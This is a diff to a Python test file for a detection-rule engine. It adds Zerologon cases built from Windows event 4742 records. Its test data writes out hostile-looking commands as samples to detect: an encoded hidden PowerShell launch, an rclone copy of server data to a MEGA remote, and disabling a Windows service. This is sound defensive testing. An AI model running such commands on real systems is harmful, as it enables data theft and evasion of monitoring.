@@ -121,6 +121,16 @@ def _process(cmd: str, name: str = "x", parent: str = "explorer.exe") -> dict[st
             "process": {"name": name, "command_line": cmd, "parent_name": parent}}
 
 
+def _machine_account(subject_sid: str, subject: str, password_last_set: str) -> dict[str, Any]:
+    """Security 4742 as the Windows normaliser gives it (the OTRF Zerologon recording's fields)."""
+    return {"event_type": "auth", "action": "computer_account_changed", "outcome": "success",
+            "source": {"host": "MORDORDC.theshire.local", "user": subject},
+            "destination": {"host": "MORDORDC.theshire.local", "user": "MORDORDC$", "domain": "THESHIRE"},
+            "unmapped": {"EventID": 4742, "Channel": "Security", "SubjectUserSid": subject_sid,
+                         "SubjectUserName": subject, "TargetUserName": "MORDORDC$",
+                         "PasswordLastSet": password_last_set}}
+
+
 # (event fields, rule id that must fire or None for "no rule at all")
 SINGLE_EVENT_CASES: list[tuple[str, dict[str, Any], str | None]] = [
     ("encoded powershell", _process("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"),
@@ -174,6 +184,12 @@ SINGLE_EVENT_CASES: list[tuple[str, dict[str, Any], str | None]] = [
                    "Details": "DWORD (0x00000002)"}}, None),
     ("eventlog queried", _process("Get-Service -Name EventLog; Get-WinEvent -LogName Security -MaxEvents 5"), None),
     ("another service disabled", _process("Set-Service -Name Spooler -StartupType Disabled"), None),
+    ("zerologon: a DC's machine password set by anonymous logon", _machine_account("S-1-5-7", "ANONYMOUS LOGON",
+                                                                                  "9/16/2020 11:40:05 PM"),
+     "LATERAL-ZEROLOGON"),
+    ("a DC rotating its own machine password", _machine_account("S-1-5-18", "SYSTEM", "9/16/2020 11:40:05 PM"), None),
+    ("an admin editing a computer account", _machine_account("S-1-5-21-1-2-3-1104", "alice", "-"), None),
+    ("anonymous logon, password unchanged", _machine_account("S-1-5-7", "ANONYMOUS LOGON", "-"), None),
     ("rclone to mega", _process("rclone copy /srv/data mega:dump --transfers 8"), "EXFIL-RCLONE-CLOUD"),
     ("big upload to internet",
      {"event_type": "network", "source": {"ip": "10.10.1.31"}, "destination": {"ip": "185.199.110.153"},
